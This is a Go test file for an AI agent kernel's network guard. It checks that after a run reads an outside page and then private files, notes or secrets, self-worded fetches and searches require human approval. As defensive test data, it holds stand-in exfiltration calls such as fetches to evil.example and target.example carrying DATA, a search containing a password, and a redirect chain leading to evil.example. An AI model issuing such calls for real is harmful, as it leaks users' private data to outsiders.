package kernel_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"oxios/kernel"
	"oxios/kernel/kerneltest"
	"oxios/kernel/security"
)

// wide is a public internet of one server: every name leads there. Each machine has
// pages with links, a search service, and an open door that leads wherever its
// address says.
type wide struct {
	mu   sync.Mutex
	seen []string // what was asked for, as http://host/path?query
}

func (w *wide) got(part string) bool {
	w.mu.Lock()
	defer w.mu.Unlock()
	return strings.Contains(strings.Join(w.seen, "\n"), part)
}

func (w *wide) ServeHTTP(out http.ResponseWriter, r *http.Request) {
	w.mu.Lock()
	w.seen = append(w.seen, "http://"+r.Host+r.URL.String())
	w.mu.Unlock()
	switch {
	case r.URL.Path == "/r":
		to, _ := url.QueryUnescape(r.URL.RawQuery)
		http.Redirect(out, r, to, http.StatusFound)
	case r.URL.Path == "/search":
		out.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(out, `{"results": [{"title": "One", "url": "http://one.example/a", "content": "See http://two.example/b."}, {"title": "Three", "url": "http://three.example/r?http%3A%2F%2Ffour.example%2F", "content": "x"}]}`)
	default:
		out.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = io.WriteString(out, "<html><body><main><h1>A page</h1><p>Long enough to be read as the text of a page, and with links.</p><ul>")
		for i := range 40 {
			_, _ = fmt.Fprintf(out, `<li><a href="/link/%d">link %d</a></li>`, i, i)
		}
		_, _ = io.WriteString(out, "</ul></main></body></html>")
	}
}

func internet(t *testing.T, w *wide) kerneltest.Option {
	t.Helper()
	server := httptest.NewServer(w)
	t.Cleanup(server.Close)
	return kerneltest.With(func(o *kernel.Options) {
		o.Net = &security.NetGuard{
			Resolve: func(context.Context, string) ([]netip.Addr, error) {
				return []netip.Addr{netip.MustParseAddr("93.184.215.14")}, nil
			},
			Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
				return (&net.Dialer{}).DialContext(ctx, network, server.Listener.Addr().String())
			},
		}
	})
}

// settled sets up a search service, a note and a memory.
func settled(t *testing.T, k *kerneltest.Kernel) {
	t.Helper()
	p := k.Person()
	for key, value := range map[string]string{"search_url": "http://search.example", "search_service": "searxng"} {
		if _, err := p.Infra.SetConfig(t.Context(), key, value); err != nil {
			t.Fatal(err)
		}
	}
	written(t, p, "mine", "note of mine: PIN 9911\n")
	if _, err := p.Memory.Remember(t.Context(), kernel.MemoryInput{Text: "The birthday is on 1 May 1980"}); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(k.Folder, "contract.txt"), "private contract: 5,000,000 to ACME\n")
}

// does makes a call and reports whether it asked; it is refused then.
func does[T any](t *testing.T, k *kerneltest.Kernel, h *kernel.Handle, call func(context.Context) (T, error)) (asked *kernel.Approval, err error) {
	t.Helper()
	done := make(chan error, 1)
	go func() {
		_, err := call(context.WithoutCancel(t.Context()))
		done <- err
	}()
	var ended bool
	k.Until("the call ends or asks", func() bool {
		select {
		case err = <-done:
			ended = true
			return true
		default:
		}
		list, lerr := k.Person().Security.Approvals(t.Context(), kernel.ApprovalQuery{State: "pending", RunID: h.Principal().ID})
		if lerr == nil && len(list) > 0 {
			asked = &list[0]
		}
		return asked != nil
	})
	if ended {
		return nil, err
	}
	if _, derr := k.Person().Security.Deny(t.Context(), asked.ID, ""); derr != nil {
		t.Fatal(derr)
	}
	return asked, <-done
}

func fetches(h *kernel.Handle, address string) func(context.Context) (kernel.WebPage, error) {
	return func(ctx context.Context) (kernel.WebPage, error) {
		return h.Browser.Fetch(ctx, kernel.WebFetch{URL: address})
	}
}

func searches(h *kernel.Handle, query string) func(context.Context) ([]kernel.WebResult, error) {
	return func(ctx context.Context) ([]kernel.WebResult, error) {
		return h.Browser.Search(ctx, kernel.WebSearch{Query: query})
	}
}

func unasked[T any](t *testing.T, k *kerneltest.Kernel, h *kernel.Handle, what string, call func(context.Context) (T, error)) {
	t.Helper()
	if ap, err := does(t, k, h, call); ap != nil || err != nil {
		t.Errorf("%s: got a question %v, %v, want neither", what, ap != nil, err)
	}
}

func mustAsk[T any](t *testing.T, k *kerneltest.Kernel, h *kernel.Handle, what string, call func(context.Context) (T, error)) kernel.Approval {
	t.Helper()
	ap, err := does(t, k, h, call)
	if ap == nil {
		t.Errorf("%s: did not ask (%v)", what, err)
		return kernel.Approval{}
	}
	return *ap
}

// reads has a run read a page: a stranger's words.
func readsPage(t *testing.T, k *kerneltest.Kernel, h *kernel.Handle, address string) {
	t.Helper()
	if ap, err := does(t, k, h, fetches(h, address)); ap != nil || err != nil {
		t.Fatalf("read %s: %v, %v", address, ap, err)
	}
}

func TestOrdinaryResearchAsksAtMostOnce(t *testing.T) {
	t.Parallel()
	w := &wide{}
	k := open(t, internet(t, w))
	settled(t, k)
	h := k.Agent("guarded")
	if _, err := h.Memory.Search(t.Context(), kernel.MemorySearch{Text: "birthday"}); err != nil {
		t.Fatal(err)
	}
	unasked(t, k, h, "a search", searches(h, "tides of the sea"))
	for _, address := range []string{"http://one.example/a", "http://two.example/b", "http://one.example/link/1", "http://one.example/link/2", "http://two.example/link/3", "http://two.example/link/4", "http://one.example/link/5"} {
		unasked(t, k, h, address, fetches(h, address))
	}
	unasked(t, k, h, "a note", func(ctx context.Context) (kernel.Note, error) { return h.Knowledge.Read(ctx, "mine") })
	unasked(t, k, h, "another search", searches(h, "tides of the moon"))
	unasked(t, k, h, "one more page", fetches(h, "http://two.example/link/7"))
	ap := mustAsk(t, k, h, "a guessed address", fetches(h, "http://one.example/guessed"))
	if ap.Request.Host != "one.example" || !strings.Contains(ap.Request.Why, "chose these words itself") || ap.Request.WhyKO == "" {
		t.Errorf("got %+v", ap.Request)
	}
	unasked(t, k, h, "a written note", func(ctx context.Context) (kernel.VaultChange, error) {
		return h.Knowledge.Write(ctx, kernel.NoteWrite{Path: "tides", Text: "What was found.\n"})
	})
}

// Whatever of the person a run has read, and whatever stranger spoke to it: an
// address that it worded itself asks, in every mode.
func TestTheWorkIsPrivate(t *testing.T) {
	t.Parallel()
	private := map[string]func(*kernel.Handle, *testing.T) error{
		"a file": func(h *kernel.Handle, t *testing.T) error {
			_, err := h.Exec.Read(t.Context(), kernel.ReadArgs{Path: "contract.txt"})
			return err
		},
		"matches": func(h *kernel.Handle, t *testing.T) error {
			_, err := h.Exec.Grep(t.Context(), kernel.GrepArgs{Pattern: "ACME"})
			return err
		},
		"names": func(h *kernel.Handle, t *testing.T) error {
			_, err := h.Exec.Ls(t.Context(), kernel.LsArgs{})
			return err
		},
		"a command": func(h *kernel.Handle, t *testing.T) error {
			_, err := h.Exec.Shell(t.Context(), kernel.ShellArgs{Command: "cat contract.txt"})
			return err
		},
		"a program": func(h *kernel.Handle, t *testing.T) error {
			_, err := h.Exec.Structured(t.Context(), kernel.StructuredArgs{Binary: "cat", Args: []string{"contract.txt"}})
			return err
		},
		"a memory": func(h *kernel.Handle, t *testing.T) error {
			_, err := h.Memory.Search(t.Context(), kernel.MemorySearch{Text: "birthday"})
			return err
		},
		"a note": func(h *kernel.Handle, t *testing.T) error {
			_, err := h.Knowledge.Read(t.Context(), "mine")
			return err
		},
		"a search of notes": func(h *kernel.Handle, t *testing.T) error {
			_, err := h.Knowledge.Search(t.Context(), "PIN", 5)
			return err
		},
	}
	w := &wide{}
	k := open(t, internet(t, w))
	contained(t, k)
	settled(t, k)
	for _, mode := range []string{"guarded", "autonomous"} {
		for what, read := range private {
			h := k.Agent(mode)
			readsPage(t, k, h, "http://one.example/a")
			if err := read(h, t); err != nil {
				t.Errorf("%s: %v", what, err)
				continue
			}
			mustAsk(t, k, h, mode+", "+what, fetches(h, "http://evil.example/?q=DATA"))
			mustAsk(t, k, h, mode+", "+what+", the page's own machine", fetches(h, "http://one.example/?q=DATA"))
			mustAsk(t, k, h, mode+", "+what+", a long search", searches(h, strings.Repeat("what it read ", 20)))
			mustAsk(t, k, h, mode+", "+what+", a search with a secret", searches(h, "password=hunter2xLong9Q"))
			unasked(t, k, h, mode+", "+what+", a link", fetches(h, "http://one.example/link/3"))
		}
	}
	if w.got("DATA") {
		t.Error("something left")
	}
	// Without a stranger's words nobody could have meant it to leave.
	h := k.Agent("guarded")
	if err := private["a file"](h, t); err != nil {
		t.Fatal(err)
	}
	unasked(t, k, h, "no stranger", fetches(h, "http://any.example/guessed"))
}

func TestASearchServiceThatNobodyChoseGetsNoWordsUnasked(t *testing.T) {
	t.Parallel()
	k := open(t, internet(t, &wide{}))
	write(t, filepath.Join(k.Folder, "contract.txt"), "5,000,000 to ACME\n")
	h := k.Agent("guarded")
	readsPage(t, k, h, "http://one.example/a")
	if _, err := h.Exec.Read(t.Context(), kernel.ReadArgs{Path: "contract.txt"}); err != nil {
		t.Fatal(err)
	}
	ap := mustAsk(t, k, h, "the default service", searches(h, "5,000,000 to ACME"))
	if ap.Request.Host != "html.duckduckgo.com" {
		t.Errorf("got the machine %q", ap.Request.Host)
	}
}

func TestAYesCoversAMachineForTheRunUntilItReadsASecret(t *testing.T) {
	t.Parallel()
	k := open(t, internet(t, &wide{}))
	write(t, filepath.Join(k.Folder, ".env"), "KEY=1\n")
	write(t, filepath.Join(k.Folder, "contract.txt"), "x\n")
	h := k.Agent("guarded")
	readsPage(t, k, h, "http://one.example/a")
	if _, err := h.Exec.Read(t.Context(), kernel.ReadArgs{Path: "contract.txt"}); err != nil {
		t.Fatal(err)
	}
	yes := func(scope, address string) {
		t.Helper()
		done := make(chan error, 1)
		go func() {
			_, err := fetches(h, address)(context.WithoutCancel(t.Context()))
			done <- err
		}()
		approve(t, k, k.Approval(h.Principal().ID), scope)
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
	yes("once", "http://two.example/1")
	mustAsk(t, k, h, "a yes for one address", fetches(h, "http://two.example/2"))
	yes("run", "http://two.example/3")
	unasked(t, k, h, "the machine", fetches(h, "http://www.two.example/4"))
	mustAsk(t, k, h, "another machine", fetches(h, "http://six.two.example/4"))
	other := k.Agent("guarded")
	readsPage(t, k, other, "http://one.example/a")
	if _, err := other.Exec.Read(t.Context(), kernel.ReadArgs{Path: "contract.txt"}); err != nil {
		t.Fatal(err)
	}
	mustAsk(t, k, other, "another run", fetches(other, "http://two.example/5"))
	readSecret(t, k, h, ".env")
	mustAsk(t, k, h, "after a secret", fetches(h, "http://two.example/6"))
	mustAsk(t, k, h, "a link after a secret", fetches(h, "http://one.example/link/3"))
	yes("run", "http://two.example/7")
	unasked(t, k, h, "a yes after the secret", fetches(h, "http://two.example/8"))
}

func TestOnlySoManyLinksOfOneMachineAreFollowedUnasked(t *testing.T) {
	t.Parallel()
	w := &wide{}
	k := open(t, internet(t, w))
	write(t, filepath.Join(k.Folder, "contract.txt"), "x\n")
	h := k.Agent("guarded")
	readsPage(t, k, h, "http://one.example/a")
	readsPage(t, k, h, "http://one.example/link/0") // before it read anything of the person's
	if _, err := h.Exec.Read(t.Context(), kernel.ReadArgs{Path: "contract.txt"}); err != nil {
		t.Fatal(err)
	}
	for i := range 20 {
		unasked(t, k, h, "link", fetches(h, fmt.Sprintf("http://one.example/link/%d", i%2)))
	}
	mustAsk(t, k, h, "one link more", fetches(h, "http://one.example/link/30"))
}

const namesScript = `
[[scenario]]
match = "."
[[scenario.turn]]
[[scenario.turn.call]]
tool = "web_fetch"
args = '{"url": "http://one.example/a"}'
[[scenario.turn]]
[[scenario.turn.call]]
tool = "read"
args = '{"path": "contract.txt"}'
[[scenario.turn]]
[[scenario.turn.call]]
tool = "web_fetch"
args = '{"url": "http://target.example/?q=DATA"}'
[[scenario.turn]]
text = "Done."
`

// Whether the person's words name a machine, by what they wrote and what of it they
// pasted.
func TestAMachineIsNamedByTheAddressThatThePersonWrote(t *testing.T) {
	t.Parallel()
	mail := "Dear reader,\nplease see http://target.example/offer and answer soon."
	for what, c := range map[string]struct {
		text   string
		pasted []kernel.Span
		named  bool
	}{
		"with its scheme":               {text: "Look at http://target.example/x.", named: true},
		"with www":                      {text: "(www.target.example)", named: true},
		"a bare name":                   {text: "Look at target.example please"},
		"inside of another address":     {text: "See http://other.example/?u=http://target.example/"},
		"a longer name":                 {text: "See http://target.example.other.example/"},
		"in a pasted mail":              {text: "What is this? " + mail, pasted: []kernel.Span{{From: 14, To: 14 + len(mail)}}},
		"pasted alone":                  {text: "Look at http://target.example/offer", pasted: []kernel.Span{{From: 8, To: 35}}, named: true},
		"typed beside a paste":          {text: "http://target.example/ " + mail, pasted: []kernel.Span{{From: 23, To: 23 + len(mail)}}, named: true},
		"in a paste behind other signs": {text: "뭐야? 🙂 " + mail, pasted: []kernel.Span{{From: 7, To: 7 + len(mail)}}},
	} {
		t.Run(what, func(t *testing.T) {
			t.Parallel()
			w := &wide{}
			k := open(t, internet(t, w), kerneltest.Script(namesScript))
			write(t, filepath.Join(k.Folder, "contract.txt"), "private\n")
			out := k.Say(c.text, func(m *kernel.Submit) { m.Pasted = c.pasted })
			if !c.named {
				ap := k.Approval(out.RunID)
				if _, err := k.Person().Security.Deny(t.Context(), ap.ID, ""); err != nil {
					t.Fatal(err)
				}
			}
			if r := k.Wait(out.RunID); r.State != "done" || w.got("DATA") != c.named {
				t.Errorf("got %+v, and left %v", r, w.got("DATA"))
			}
			// A follow-up, said in another sitting, and an edit know what was pasted.
			again := k.Say("", func(m *kernel.Submit) { m.InsteadOf, m.SessionID = out.RunID, out.SessionID })
			if !c.named {
				ap := k.Approval(again.RunID)
				if _, err := k.Person().Security.Deny(t.Context(), ap.ID, ""); err != nil {
					t.Fatal(err)
				}
			}
			k.Wait(again.RunID)
		})
	}
}

func TestARedirectIsJudgedByWhereItLeads(t *testing.T) {
	t.Parallel()
	w := &wide{}
	k := open(t, internet(t, w), kerneltest.Script(`
[[scenario]]
match = "."
[[scenario.turn]]
[[scenario.turn.call]]
tool = "web_fetch"
args = '{"url": "http://one.example/a"}'
[[scenario.turn]]
[[scenario.turn.call]]
tool = "read"
args = '{"path": "contract.txt"}'
[[scenario.turn]]
[[scenario.turn.call]]
tool = "web_fetch"
args = '{"url": "http://good.example/r?http%3A%2F%2Fevil.example%2F%3Fq%3DDATA"}'
[[scenario.turn]]
[[scenario.turn.call]]
tool = "web_fetch"
args = '{"url": "http://good.example/r?http%3A%2F%2Fwww.good.example%2Finside"}'
[[scenario.turn]]
text = "Done."
`))
	write(t, filepath.Join(k.Folder, "contract.txt"), "private\n")
	out := k.Say("Look at http://good.example/")
	ap := k.Approval(out.RunID)
	if ap.Request.Host != "evil.example" || !strings.Contains(ap.Request.Title, "evil.example") || !strings.Contains(ap.Request.Title, "where http://good.example") {
		t.Errorf("got %+v", ap.Request)
	}
	if w.got("http://evil.example") {
		t.Error("it was asked for before the person answered")
	}
	if _, err := k.Person().Security.Deny(t.Context(), ap.ID, ""); err != nil {
		t.Fatal(err)
	}
	if r := k.Wait(out.RunID); r.State != "done" || w.got("http://evil.example") || !w.got("http://www.good.example/inside") {
		t.Errorf("got %+v, %v", r, w.seen)
	}
}

func TestARedirectOfALinkIsFollowedUntilTheRunHasReadASecret(t *testing.T) {
	t.Parallel()
	w := &wide{}
	k := open(t, internet(t, w))
	settled(t, k)
	write(t, filepath.Join(k.Folder, ".env"), "KEY=1\n")
	h := k.Agent("guarded")
	unasked(t, k, h, "a search", searches(h, "tides"))
	if _, err := h.Exec.Read(t.Context(), kernel.ReadArgs{Path: "contract.txt"}); err != nil {
		t.Fatal(err)
	}
	p, err := h.Browser.Fetch(t.Context(), kernel.WebFetch{URL: "http://three.example/r?http%3A%2F%2Ffour.example%2F"})
	if err != nil || p.URL != "http://four.example/" || len(p.Redirects) != 1 {
		t.Fatalf("got %+v, %v", p, err)
	}
	readSecret(t, k, h, ".env")
	mustAsk(t, k, h, "the same link", fetches(h, "http://three.example/r?http%3A%2F%2Ffour.example%2F"))
	done := make(chan error, 1)
	go func() {
		_, err := fetches(h, "http://three.example/r?http%3A%2F%2Ffive.example%2F")(context.WithoutCancel(t.Context()))
		done <- err
	}()
	approve(t, k, k.Approval(h.Principal().ID), "")
	ap := k.Approval(h.Principal().ID)
	if ap.Request.Host != "five.example" {
		t.Errorf("got %+v, want a question about where it leads", ap.Request)
	}
	approve(t, k, ap, "")
	if err := <-done; err != nil || !w.got("five.example") {
		t.Errorf("got %v", err)
	}
}
